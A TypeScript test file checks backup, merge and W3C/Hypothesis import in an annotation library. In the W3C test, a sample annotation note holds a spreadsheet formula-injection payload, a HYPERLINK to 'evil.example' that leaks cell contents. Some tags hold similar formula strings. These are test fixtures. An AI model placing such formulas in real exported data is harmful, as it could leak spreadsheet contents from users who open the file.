import { describe, expect, it, vi } from 'vitest';
import type { Repository } from '../../../core/db/repository';
import { backupText } from '../../../core/exchange/backup';
import { applyImport, previewImport } from '../../../core/exchange/import/apply';
import { REASONS } from '../../../core/exchange/import/plan';
import { readImportText } from '../../../core/exchange/import/read';
import { w3cText } from '../../../core/exchange/w3c';
import { freshRepository } from '../support/database';
import { EXPORTED_AT, sampleText } from './support';

/** What the library page's "Delete everything" does. */
async function wipe(repo: Repository): Promise<void> {
  await repo.wipeLibrary();
}

async function backupOf(repo: Repository): Promise<string> {
  return backupText(await repo.readLibrary(), { exportedAt: EXPORTED_AT });
}

const counts = (n: Partial<Record<'new' | 'updated' | 'unchanged' | 'skipped' | 'conflicts', number>>) => ({
  new: 0,
  updated: 0,
  unchanged: 0,
  skipped: 0,
  conflicts: 0,
  ...n,
});

const NO_WRITES = {
  articles: [],
  annotations: [],
  parties: [],
  settings: [],
  collections: [],
  dismissals: [],
  versions: [],
  versionSpans: [],
};

const EMPTY_LIBRARY = {
  articles: [],
  annotations: [],
  parties: [],
  settings: [],
  collections: [],
  dismissals: [],
  versions: [],
};

const BUDGET = 'https://news.example.org/2024/05/budget-vote.html';

type SampleFile = {
  articles: { id: string }[];
  collections?: { id: string; name: string; articleIds: string[]; updated: string }[];
  dismissals?: { id: string; at: string }[];
};

describe('importing a backup', () => {
  it('into an empty library adds everything, and the library then backs up to the same file', async () => {
    const repo = freshRepository();
    const plan = await applyImport(repo, readImportText(sampleText()));
    expect(plan.counts).toEqual({
      articles: counts({ new: 4 }),
      annotations: counts({ new: 11 }),
      parties: counts({ new: 6 }),
      settings: counts({ new: 1 }),
      collections: counts({ new: 3 }),
      dismissals: counts({ new: 4 }),
      versions: counts({}),
    });
    expect(await backupOf(repo)).toBe(backupText(readImportText(sampleText()), { exportedAt: EXPORTED_AT }));
    // The "by party" index is rebuilt from the records.
    expect((await repo.annotationsByParty('8f0c2a61-3b7e-4c9d-9a51-2f6e1d7c4b02')).map((a) => a.id).sort()).toEqual([
      '0c5d1e2f-0001-4a6b-8c7d-000000000004',
      '0c5d1e2f-0001-4a6b-8c7d-000000000005',
      '0c5d1e2f-0001-4a6b-8c7d-00000000000a',
    ]);
  });

  it('round-trips losslessly: export, wipe, import gives back identical data', async () => {
    const repo = freshRepository();
    await applyImport(repo, readImportText(sampleText()));
    const before = await repo.readLibrary();
    expect(before.collections).toHaveLength(3);
    expect(before.dismissals).toHaveLength(4);
    const exported = await backupOf(repo);
    await wipe(repo);
    expect(await repo.readLibrary()).toEqual(EMPTY_LIBRARY);
    await applyImport(repo, readImportText(exported));
    expect(await repo.readLibrary()).toEqual(before);
    expect(await repo.listCollections()).toEqual(
      [...before.collections].sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0)),
    );
    expect(await backupOf(repo)).toBe(exported);
  });

  it('is idempotent: the same file twice adds and changes nothing the second time', async () => {
    const repo = freshRepository();
    await applyImport(repo, readImportText(sampleText()));
    const before = await repo.readLibrary();
    const second = await applyImport(repo, readImportText(sampleText()));
    expect(second.counts).toEqual({
      articles: counts({ unchanged: 4 }),
      annotations: counts({ unchanged: 11 }),
      parties: counts({ unchanged: 6 }),
      settings: counts({ unchanged: 1 }),
      collections: counts({ unchanged: 3 }),
      dismissals: counts({ unchanged: 4 }),
      versions: counts({}),
    });
    expect(second.writes).toEqual(NO_WRITES);
    expect(await repo.readLibrary()).toEqual(before);
  });

  it('settles conflicts by the newer updated time, and says how many and why', async () => {
    const repo = freshRepository();
    await applyImport(repo, readImportText(sampleText()));
    const file = JSON.parse(sampleText()) as {
      annotations: { id: string; note: string; updated: string }[];
      parties: { id: string; name: string; updated: string }[];
      settings: { key: string; value: unknown }[];
    };
    // In the library: one annotation edited after the backup was made…
    const edited = (await repo.getAnnotation('0c5d1e2f-0001-4a6b-8c7d-000000000001'))!;
    await repo.saveAnnotation({ ...edited, note: 'edited in the library', updated: '2025-01-01T00:00:00.000Z' });
    // …and in the file: another one edited later than the library's copy, one changed at the same time, one party renamed later.
    file.annotations[1]!.note = 'edited in the file';
    file.annotations[1]!.updated = '2025-02-01T00:00:00.000Z';
    file.annotations[0]!.note = 'older edit in the file';
    file.annotations[2]!.note = 'same time, other text';
    file.parties[0]!.name = 'Maria Example-Renamed';
    file.parties[0]!.updated = '2025-03-01T00:00:00.000Z';
    file.settings[0]!.value = ['Unrated', 'Accurate'];
    const incoming = readImportText(JSON.stringify(file));

    const preview = await previewImport(repo, incoming);
    expect(preview.counts.annotations).toEqual(counts({ updated: 1, unchanged: 8, skipped: 2, conflicts: 3 }));
    expect(preview.counts.parties).toEqual(counts({ updated: 1, unchanged: 5, conflicts: 1 }));
    expect(preview.counts.settings).toEqual(counts({ skipped: 1 }));
    expect(preview.reasons).toEqual(
      expect.arrayContaining([
        { kind: 'annotations', outcome: 'updated', reason: REASONS.incomingNewer, count: 1 },
        { kind: 'annotations', outcome: 'skipped', reason: REASONS.libraryNewer, count: 1 },
        { kind: 'annotations', outcome: 'skipped', reason: REASONS.sameTime, count: 1 },
        { kind: 'settings', outcome: 'skipped', reason: REASONS.settingKept, count: 1 },
      ]),
    );
    // A preview writes nothing.
    expect((await repo.getAnnotation(file.annotations[1]!.id))!.note).not.toBe('edited in the file');

    const applied = await applyImport(repo, incoming);
    expect(applied.counts).toEqual(preview.counts);
    expect((await repo.getAnnotation(file.annotations[0]!.id))!.note).toBe('edited in the library');
    expect((await repo.getAnnotation(file.annotations[1]!.id))!.note).toBe('edited in the file');
    expect((await repo.getAnnotation(file.annotations[2]!.id))!.note).not.toBe('same time, other text');
    expect((await repo.getParty(file.parties[0]!.id))!.name).toBe('Maria Example-Renamed');
  });

  it('settles a collection changed on both sides by the newer updated time; a dismissal stays dismissed', async () => {
    const repo = freshRepository();
    await applyImport(repo, readImportText(sampleText()));
    const [essay, hostile, empty] = [...(await repo.readLibrary()).collections].sort((a, b) => (a.id < b.id ? -1 : 1));
    // In the library: the essay's sources renamed in January, the empty one changed later than the file's copy.
    await repo.restoreCollection({ ...essay!, name: 'Essay sources (library)', updated: '2025-01-01T00:00:00.000Z' });
    const file = JSON.parse(sampleText()) as Required<SampleFile>;
    const inFile = (id: string) => file.collections.find((c) => c.id === id)!;
    // In the file: the essay's sources cut down in February (newer), the hostile one renamed at the
    // same time as the library's copy, the empty one renamed earlier; one dismissal at another time.
    Object.assign(inFile(essay!.id), {
      name: 'Essay sources (file)',
      articleIds: [BUDGET],
      updated: '2025-02-01T00:00:00.000Z',
    });
    Object.assign(inFile(hostile!.id), { name: 'Same time, other name' });
    Object.assign(inFile(empty!.id), { name: 'Older name', updated: '2024-07-01T00:00:00.000Z' });
    file.dismissals[0]!.at = '2025-03-01T00:00:00.000Z';
    const incoming = readImportText(JSON.stringify(file));

    const preview = await previewImport(repo, incoming);
    expect(preview.counts.collections).toEqual(counts({ updated: 1, skipped: 2, conflicts: 3 }));
    expect(preview.counts.dismissals).toEqual(counts({ unchanged: 4 }));
    expect(preview.reasons).toEqual(
      expect.arrayContaining([
        { kind: 'collections', outcome: 'updated', reason: REASONS.incomingNewer, count: 1 },
        { kind: 'collections', outcome: 'skipped', reason: REASONS.sameTime, count: 1 },
        { kind: 'collections', outcome: 'skipped', reason: REASONS.libraryNewer, count: 1 },
        { kind: 'dismissals', outcome: 'unchanged', reason: REASONS.alreadyDismissed, count: 1 },
        { kind: 'dismissals', outcome: 'unchanged', reason: REASONS.identical, count: 3 },
      ]),
    );
    expect((await repo.db.collections.get(essay!.id))!.name).toBe('Essay sources (library)');

    const applied = await applyImport(repo, incoming);
    expect(applied.counts).toEqual(preview.counts);
    expect(await repo.db.collections.get(essay!.id)).toEqual({
      ...essay,
      name: 'Essay sources (file)',
      articleIds: [BUDGET],
      updated: '2025-02-01T00:00:00.000Z',
    });
    expect(await repo.db.collections.get(hostile!.id)).toEqual(hostile);
    expect(await repo.db.collections.get(empty!.id)).toEqual(empty);
    expect((await repo.db.dismissals.get(file.dismissals[0]!.id))!.at).not.toBe('2025-03-01T00:00:00.000Z');
  });

  it('refuses a collection that names an article not in the file, and writes nothing', async () => {
    const repo = freshRepository();
    await applyImport(repo, readImportText(sampleText()));
    const before = await repo.readLibrary();
    const file = JSON.parse(sampleText()) as Required<SampleFile>;
    file.collections[0]!.articleIds.push('https://elsewhere.example/story.html');
    const importFile = async () => applyImport(repo, readImportText(JSON.stringify(file)));
    await expect(importFile()).rejects.toMatchObject({
      name: 'ImportError',
      where: 'collections[0].articleIds[2]',
      message: 'collections[0].articleIds[2]: no article with this id is in the file',
    });
    expect(await repo.readLibrary()).toEqual(before);
  });

  it('an older backup, without collections or dismissals, still imports and leaves the library’s own alone', async () => {
    const old = JSON.parse(sampleText()) as SampleFile;
    delete old.collections;
    delete old.dismissals;
    const oldText = JSON.stringify(old, null, 2);

    const fresh = freshRepository();
    const plan = await applyImport(fresh, readImportText(oldText));
    expect(plan.counts.annotations).toEqual(counts({ new: 11 }));
    expect(plan.counts.collections).toEqual(counts({}));
    expect(plan.counts.dismissals).toEqual(counts({}));
    const library = await fresh.readLibrary();
    expect(library.collections).toEqual([]);
    expect(library.dismissals).toEqual([]);
    // The library backs up to exactly the file it was made from: no empty lists added.
    expect(await backupOf(fresh)).toBe(backupText(readImportText(oldText), { exportedAt: EXPORTED_AT }));
    expect(await backupOf(fresh)).not.toContain('"collections"');

    const full = freshRepository();
    await applyImport(full, readImportText(sampleText()));
    const before = await full.readLibrary();
    const again = await applyImport(full, readImportText(oldText));
    expect(again.writes).toEqual(NO_WRITES);
    expect(await full.readLibrary()).toEqual(before);
  });

  it('merges an article the library already has, keeping every address and the widest visit span', async () => {
    const repo = freshRepository();
    await applyImport(repo, readImportText(sampleText()));
    const file = JSON.parse(sampleText()) as {
      articles: { id: string; urls: string[]; firstVisit: string; lastVisit: string; title: string }[];
    };
    file.articles[0]!.urls.push('https://amp.news.example.org/2024/05/budget-vote.html');
    file.articles[0]!.firstVisit = '2024-05-01T00:00:00.000Z';
    file.articles[0]!.title = 'Older title from an earlier visit';
    const plan = await applyImport(repo, readImportText(JSON.stringify(file)));
    expect(plan.counts.articles).toEqual(counts({ updated: 1, unchanged: 3 }));
    const merged = (await repo.getArticle(file.articles[0]!.id))!;
    expect(merged.urls).toContain('https://amp.news.example.org/2024/05/budget-vote.html');
    expect(merged.firstVisit).toBe('2024-05-01T00:00:00.000Z');
    expect(merged.title).toBe('Parliament passes budget after all-night session');
  });

  it('writes all of it or none of it: a failure part-way leaves the library as it was', async () => {
    const repo = freshRepository();
    const incoming = readImportText(sampleText());
    // Articles and parties are written before annotations in the same transaction.
    vi.spyOn(repo.db.annotations, 'bulkPut').mockRejectedValueOnce(new Error('disk full'));
    await expect(applyImport(repo, incoming)).rejects.toThrow('disk full');
    expect(await repo.readLibrary()).toEqual(EMPTY_LIBRARY);
  });
});

describe('importing W3C Web Annotation files', () => {
  it('our own export into an empty library: annotations, their pages and named parties; twice adds nothing', async () => {
    const source = freshRepository();
    await applyImport(source, readImportText(sampleText()));
    const w3c = w3cText(await source.readLibrary(), { exportedAt: EXPORTED_AT });

    const repo = freshRepository();
    const first = await applyImport(repo, readImportText(w3c));
    expect(first.format).toBe('w3c');
    expect(first.counts.annotations).toEqual(counts({ new: 11 }));
    expect(first.counts.articles).toEqual(counts({ new: 4 }));
    // The parties the annotations name: claimants, subjects, mentions (not the unnamed "Freedonia").
    expect(first.counts.parties).toEqual(counts({ new: 5 }));
    const claim = (await repo.getAnnotation('0c5d1e2f-0001-4a6b-8c7d-000000000004'))!;
    expect(claim.kind).toBe('claim');
    expect(claim.claim!.verdict).toBe('True');
    expect((await repo.getParty(claim.claim!.claimantId!))!.name).toBe('Maria Example');
    expect(claim.claim!.evidence.map((e) => e.url)).toEqual([
      'https://stats.example.gov/labour/2024-04',
      'https://archive.example.org/web/2024/stats?a=1&b=2',
    ]);
    expect(claim.note).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"click me")');
    expect((await repo.getAnnotation('0c5d1e2f-0001-4a6b-8c7d-000000000007'))!.kind).toBe('party-mention');
    expect((await repo.getAnnotation('legacy-note-1'))!.tags).toEqual(['=SUM(A1:A2)', '@admin']);

    const before = await repo.readLibrary();
    const second = await applyImport(repo, readImportText(w3c));
    expect(second.counts.annotations).toEqual(counts({ unchanged: 11 }));
    expect(second.counts.parties).toEqual(counts({ unchanged: 5 }));
    expect(second.writes).toEqual(NO_WRITES);
    expect(await repo.readLibrary()).toEqual(before);
  });

  it('into the library it came from: matches parties by name and pages by address, writes nothing', async () => {
    const repo = freshRepository();
    await applyImport(repo, readImportText(sampleText()));
    const before = await repo.readLibrary();
    const plan = await applyImport(repo, readImportText(w3cText(before, { exportedAt: EXPORTED_AT })));
    expect(plan.counts.parties).toEqual(counts({ unchanged: 5 }));
    expect(plan.reasons).toContainEqual({
      kind: 'parties',
      outcome: 'unchanged',
      reason: REASONS.partyMatched,
      count: 5,
    });
    // What W3C cannot carry (evidence titles, colours, where annotations were last found)
    // makes some copies differ; at the same time, the library's are kept.
    expect(plan.counts.annotations.new).toBe(0);
    expect(plan.counts.annotations.updated).toBe(0);
    expect(plan.writes.annotations).toEqual([]);
    expect(await repo.readLibrary()).toEqual(before);
  });

  it('a Hypothesis annotation on a page the library has under its canonical address joins that article', async () => {
    const repo = freshRepository();
    await applyImport(repo, readImportText(sampleText()));
    const row = {
      id: 'hyp-1',
      created: '2024-08-01T10:00:00Z',
      updated: '2024-08-01T10:00:00Z',
      uri: 'https://m.news.example.org/2024/05/budget-vote.html?utm_medium=social',
      text: 'From Hypothesis',
      tags: [],
      target: [
        {
          source: 'https://m.news.example.org/2024/05/budget-vote.html?utm_medium=social',
          selector: [{ type: 'TextQuoteSelector', exact: 'opposition walked out' }],
        },
      ],
    };
    const plan = await applyImport(repo, readImportText(JSON.stringify({ rows: [row] })));
    expect(plan.counts.annotations).toEqual(counts({ new: 1 }));
    // The annotation is a later visit: the article's visit span grows to include it.
    expect(plan.counts.articles).toEqual(counts({ updated: 1 }));
    expect((await repo.getAnnotation('hyp-1'))!.articleId).toBe('https://news.example.org/2024/05/budget-vote.html');
    const article = (await repo.getArticle('https://news.example.org/2024/05/budget-vote.html'))!;
    expect(article.lastVisit).toBe('2024-08-01T10:00:00.000Z');
    expect(article.title).toBe('Parliament passes budget after all-night session');
    expect(await repo.readLibrary().then((l) => l.articles.length)).toBe(4);
  });
});
